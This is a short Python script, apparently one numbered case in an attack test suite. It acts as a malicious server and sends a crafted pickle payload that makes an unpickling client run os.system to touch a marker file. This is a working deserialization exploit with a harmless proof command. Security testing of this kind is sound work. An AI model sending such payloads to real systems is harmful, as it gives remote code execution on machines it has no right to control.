from attaque import *

_, connection = accept()
mark = (KNOWN.get("writable") or ["/tmp"])[0]
connection.sendall(b"\x80\x04cos\nsystem\n(S'touch " + mark.encode() + b"/pickled'\ntR.")
for _ in range(2):
    print(connection.recv(1024).decode(), flush=True)
connection.close()
tried(51, "a pickle")
